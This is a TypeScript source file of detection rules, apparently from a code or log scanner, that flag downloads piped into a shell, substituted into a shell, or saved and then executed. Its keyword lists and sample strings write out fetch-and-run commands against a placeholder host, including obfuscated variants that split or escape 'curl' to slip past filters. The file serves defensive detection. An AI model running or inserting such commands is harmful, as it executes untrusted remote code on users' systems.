import type { Rule, RuleMatch } from '../../rule.ts';
import { expression } from '../boundary.ts';
import { isInstallOneLiner } from '../install_one_liner.ts';
import { DOWNLOADER, fetchesSomething, GAP, RUNS_INPUT, SHELL, WORD_START } from '../shell_syntax.ts';
import { PIPE_TO_SHELL, PIPES_INTO_SHELL } from './format.ts';

const [BAR, LINE_FEED, PARENTHESIS, BACKTICK] = [0x7c, 0x0a, 0x28, 0x60];

/** Whether a bar stands in the same line, as far ahead as the expression goes. */
function barAhead(bytes: Uint8Array, at: number, end: number): boolean {
  const last = Math.min(end, at + 400);
  for (let n = at; n < last; n++) {
    if (bytes[n] === BAR) return true;
    if (bytes[n] === LINE_FEED) return false;
  }
  return last === end;
}

const NAMES_DOWNLOADER = new Set(Buffer.from('cwfCWF'));

/** Whether what opens a substitution stands a little before a downloader's name; other keywords hold it themselves. */
function isSubstituted(bytes: Uint8Array, at: number): boolean {
  if (!NAMES_DOWNLOADER.has(bytes[at] ?? 0)) return true;
  for (let n = at - 1; n >= at - 20; n--) {
    if (bytes[n] === PARENTHESIS || bytes[n] === BACKTICK) return true;
  }
  return false;
}

/** Whether the last command makes something executable, is a shell with a file, or starts what was fetched before. */
function runsWhatItFetched({ text }: RuleMatch): boolean {
  const [, fetched = '', last = ''] = /^([\s\S]*)(?:&&|&amp;|;|\\n)([\s\S]*)$/.exec(text) ?? [];
  if (/^[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:chmod|(?:ba|z|da)?sh)[ \t]/i.test(last)) return true;
  const [, runner = '', file = ''] =
    /^[ \t]{0,4}(?:sudo[ \t]{1,4})?((?:python[23]?|perl|node|ruby|php|source|\.|start|nohup|exec|cmd[ \t]\/c)(?=[ \t]))?[ \t]{0,4}([^\s;&|]{1,80})[ \t]{0,4}$/i.exec(
      last,
    ) ?? [];
  // A bare name without a runner is some program.
  if (runner === '' && !/[/\\]/.test(file)) return false;
  const name = file.replace(/^.*[/\\]/, '');
  return fetched.split(/[\s/\\"'=?]+/).includes(name);
}

/** Downloads that a shell runs. */
export const DOWNLOAD_RULES: readonly Rule[] = [
  {
    ...PIPE_TO_SHELL,
    id: 'download_piped_to_shell',
    confidence: 'high',
    keywords: [
      'curl',
      'wget',
      'fetch -',
      'fetch http',
      'aria2c',
      'lynx -',
      ...PIPES_INTO_SHELL,
      '|& sh',
      '|&sh',
      '|& bash',
      '|&bash',
    ],
    glance: barAhead,
    expression: expression('gi', DOWNLOADER, GAP, String.raw`[^\r\n]{3,300}?\|&?`, RUNS_INPUT),
    reach: { before: 360, after: 640 },
    validate: fetchesSomething,
    everyday: isInstallOneLiner,
    describes: 'A download that is piped into a shell or an interpreter.',
    get finds() {
      return [
        'curl -fsSL https://x.example/i.sh | sh',
        'wget -qO- http://x.example/a | sudo -E bash -s -- --yes',
        'curl x.example/a|/bin/bash',
        'curl -s http://x.example/a | base64 -d | env X=1 zsh',
        'curl https://x.example/p.py | python3 -',
        "c''url http://x.example/a | sh",
        'curl$IFS"http://x.example/a"|b\\ash',
        ['curl', 'http://x.example/a', '|', 'sh'].join('$' + '{IFS}'),
        'curl -sfL https://x.example | X_URL=https://m.example:6443 X_MODE="server" sh -s -',
        'curl x.example/a | /usr/bin/env bash',
        'curl x.example/a | (bash)',
        "curl 'x.example/a' | 'sh'",
        'lynx -source x.example/a | bash',
        String.raw`{"command":"curl -s \"http://x.example/a\" | bash"}`,
      ];
    },
    get ignores() {
      return [
        'curl https://x.example/a | jq .',
        'curl https://x.example/a | python3 -m json.tool',
        'curl https://x.example/ -o a.sh',
        '| curl | bash |',
        'curl http://x.example/show | shuf',
        'curl http://x.example/a | sh.example',
      ];
    },
  },
  {
    ...PIPE_TO_SHELL,
    id: 'download_substituted_into_shell',
    confidence: 'high',
    // `eval` and `source` alone are English words: with what must follow them they are not.
    keywords: [
      'curl',
      'wget',
      'fetch -',
      'fetch http',
      'sh <(',
      'sh <<<',
      'sh -c',
      'eval $(',
      'eval "$(',
      'eval \\"$(',
      'eval `',
      'eval "`',
      'source <(',
      'exec $(',
    ],
    glance: isSubstituted,
    expression: expression(
      'gi',
      `(?:${WORD_START}(?:${SHELL}|eval|source|exec|python[23]?|perl|ruby|node)|(?:^|[;&|"'\\s])\\.)`,
      String.raw`[ \t]{0,4}(?:-[A-Za-z]{0,6}[ \t]{1,4})?(?:<{1,3}[ \t]{0,4})?[\\"']{0,4}`,
      String.raw`(?:<\(|\$\(|\x60)[ \t]{0,4}`,
      String.raw`(?:sudo[ \t]{1,4})?\\{0,4}`,
      DOWNLOADER,
      GAP,
      String.raw`[^\r\n\x60)]{3,200}`,
    ),
    reach: { before: 110, after: 330 },
    validate: fetchesSomething,
    everyday: isInstallOneLiner,
    describes: 'A download whose answer a shell evaluates by substitution.',
    get finds() {
      return [
        'bash <(curl -s https://x.example/i.sh)',
        'eval "$(wget -qO- http://x.example/a)"',
        'sh -c "$(curl -fsSL https://x.example/install.sh)"',
        'source <(curl x.example/env)',
        'bash <(\\curl -sSL https://x.example/i.sh)',
        'bash -c `curl http://x.example/a`',
        'bash <<< "$(curl -s http://x.example/a)"',
        String.raw`{"cmd":"sh -c \"$(curl -fsSL https://x.example/a)\""}`,
      ];
    },
    get ignores() {
      return [
        'VERSION=$(curl -s https://x.example/version)',
        'diff <(curl a.example) <(curl b.example)',
        'echo "$(curl -s https://x.example)"',
        'bash -c "echo $(date)"',
      ];
    },
  },
  {
    ...PIPE_TO_SHELL,
    id: 'download_then_run',
    severity: 'medium',
    confidence: 'medium',
    keywords: ['curl', 'wget'],
    expression: expression(
      'gi',
      DOWNLOADER,
      GAP,
      String.raw`[^\r\n|]{3,240}?(?:&&|&amp;&amp;|;|\\n)[ \t]{0,4}(?:sudo[ \t]{1,4})?`,
      String.raw`(?:(?:(?:python[23]?|perl|node|ruby|php|source|\.|start|nohup|exec|cmd[ \t]{1,4}/c)[ \t]{1,4})?(?=[\w.%$~/\\-])|chmod[ \t]{1,4}(?:[ugoa]{0,4}\+[rwx]{0,2}x|[0-7]{0,1}7[0-7]{2})[ \t]{1,4}|(?:ba|z|da)?sh[ \t]{1,4}(?:-[a-z]{1,4}[ \t]{1,4})?[./~$A-Za-z])`,
      String.raw`[^\r\n;&|"'\\]{1,80}`,
    ),
    reach: { before: 2, after: 470 },
    validate: (match) =>
      fetchesSomething(match) && !/\|\s{0,4}(?:ba|z)?sh\b/.test(match.text) && runsWhatItFetched(match),
    describes: 'A download that is made executable or run in the next step.',
    get finds() {
      return [
        'curl -o /tmp/x http://x.example/x && chmod +x /tmp/x && /tmp/x',
        'wget http://x.example/i.sh; sh i.sh',
        'cd /tmp; wget -q http://x.example/m -O m; chmod 777 m; ./m',
        'curl http://x.example/a -o /tmp/a && python3 /tmp/a',
        'wget http://x.example/a.py && python a.py',
        'curl.exe -o %TEMP%\\a.exe http://x.example/a.exe && start %TEMP%\\a.exe',
      ];
    },
    get ignores() {
      return [
        'curl https://x.example/a.tgz && tar xzf a.tgz',
        'wget https://x.example/a.deb; dpkg -i a.deb',
        'curl -O https://x.example/a.csv && cat a.csv',
        'wget https://x.example/a.py && python b.py',
        'curl --help; shasum -a 256 file',
      ];
    },
  },
];
